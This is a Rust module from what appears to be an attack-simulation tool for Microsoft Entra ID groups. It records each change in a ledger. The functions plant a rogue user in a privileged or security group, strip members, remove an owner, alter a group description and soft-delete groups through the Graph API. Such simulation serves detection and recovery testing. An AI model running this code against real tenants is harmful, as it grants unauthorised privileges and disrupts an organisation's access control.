//! Strikes against groups.

use serde_json::{Value, json};

use super::{AttackError, DeedKind, Intruder, has, id, name};

const SELECT: &str = "id,displayName,description,groupTypes,securityEnabled,mailEnabled,isAssignableToRole,\
                      onPremisesSyncEnabled";
/// How many members are thrown out.
const STRIPPED: usize = 5;

pub(super) async fn strike(intruder: &mut Intruder) -> Result<(), AttackError> {
    let groups = intruder
        .client
        .list(&format!("/groups?$top=999&$select={SELECT}"), 3)
        .await?;
    infiltrate(intruder, &groups).await?;
    strip_members(intruder, &groups).await?;
    remove_owner(intruder, &groups).await?;
    if let Some(group) = intruder.pick(&groups, |group| {
        editable(group) && group["isAssignableToRole"] != true
    }) {
        let body = json!({ "description": "scheduled for removal" });
        intruder
            .client
            .change(&format!("/groups/{}", id(&group)), &body)
            .await?;
        let sentence = format!("changed the description of {}", name(&group));
        intruder.ledger.note(
            "group",
            &group,
            DeedKind::Modified,
            &["description"],
            &sentence,
        );
    }
    let sorts: [fn(&Value) -> bool; 2] = [|group| !is_microsoft_365(group), is_microsoft_365];
    for wanted in sorts {
        let soft =
            |group: &Value| editable(group) && group["isAssignableToRole"] != true && wanted(group);
        if let Some(group) = intruder.pick(&groups, soft) {
            intruder
                .client
                .delete(&format!("/groups/{}", id(&group)))
                .await?;
            let sentence = format!("deleted the group {}", name(&group));
            intruder
                .ledger
                .note("group", &group, DeedKind::SoftDeleted, &[], &sentence);
        }
    }
    Ok(())
}

fn is_microsoft_365(group: &Value) -> bool {
    has(&group["groupTypes"], "Unified")
}

/// Cloud groups whose members a person keeps, and which the recycle bin takes.
fn editable(group: &Value) -> bool {
    group["onPremisesSyncEnabled"] != true
        && !has(&group["groupTypes"], "DynamicMembership")
        && (is_microsoft_365(group) || group["mailEnabled"] != true)
}

/// The planted user becomes a member of a privileged group, or of a security group failing that.
async fn infiltrate(intruder: &mut Intruder, groups: &[Value]) -> Result<(), AttackError> {
    let Some(rogue) = intruder.rogue_user.clone() else {
        return Ok(());
    };
    let privileged = |group: &Value| editable(group) && group["isAssignableToRole"] == true;
    let security = |group: &Value| editable(group) && group["securityEnabled"] == true;
    let Some(group) = intruder
        .pick(groups, privileged)
        .or_else(|| intruder.pick(groups, security))
    else {
        return Ok(());
    };
    let path = format!("/groups/{}/members/$ref", id(&group));
    intruder.client.link(&path, &rogue).await?;
    let sentence = format!("made the planted user a member of {}", name(&group));
    intruder
        .ledger
        .links("group", &group, &[("members", "added", &rogue)], &sentence);
    Ok(())
}

async fn strip_members(intruder: &mut Intruder, groups: &[Value]) -> Result<(), AttackError> {
    let candidates: Vec<Value> = groups
        .iter()
        .filter(|group| editable(group) && group["isAssignableToRole"] != true)
        .filter(|group| !intruder.used.contains(id(group)))
        .take(40)
        .cloned()
        .collect();
    for group in candidates {
        let path = format!("/groups/{}/members", id(&group));
        let members = intruder
            .client
            .list(&format!("{path}?$select=id"), 1)
            .await?;
        if members.len() < 3 {
            continue;
        }
        let gone: Vec<String> = members
            .iter()
            .take(STRIPPED)
            .map(|member| id(member).to_owned())
            .collect();
        for member in &gone {
            intruder
                .client
                .delete(&format!("{path}/{member}/$ref"))
                .await?;
        }
        let links: Vec<(&str, &str, &str)> = gone
            .iter()
            .map(|member| ("members", "removed", member.as_str()))
            .collect();
        intruder.used.insert(id(&group).to_owned());
        let sentence = format!("threw {} members out of {}", gone.len(), name(&group));
        intruder.ledger.links("group", &group, &links, &sentence);
        break;
    }
    Ok(())
}

async fn remove_owner(intruder: &mut Intruder, groups: &[Value]) -> Result<(), AttackError> {
    let candidates: Vec<Value> = groups
        .iter()
        .filter(|group| editable(group) && group["isAssignableToRole"] != true)
        .filter(|group| !intruder.used.contains(id(group)))
        .take(40)
        .cloned()
        .collect();
    for group in candidates {
        let path = format!("/groups/{}/owners", id(&group));
        let owners = intruder
            .client
            .list(&format!("{path}?$select=id"), 1)
            .await?;
        let fewest = if is_microsoft_365(&group) { 2 } else { 1 };
        if owners.len() < fewest {
            continue;
        }
        let owner = id(&owners[0]).to_owned();
        intruder
            .client
            .delete(&format!("{path}/{owner}/$ref"))
            .await?;
        intruder.used.insert(id(&group).to_owned());
        let sentence = format!("removed an owner of {}", name(&group));
        intruder
            .ledger
            .links("group", &group, &[("owners", "removed", &owner)], &sentence);
        break;
    }
    Ok(())
}
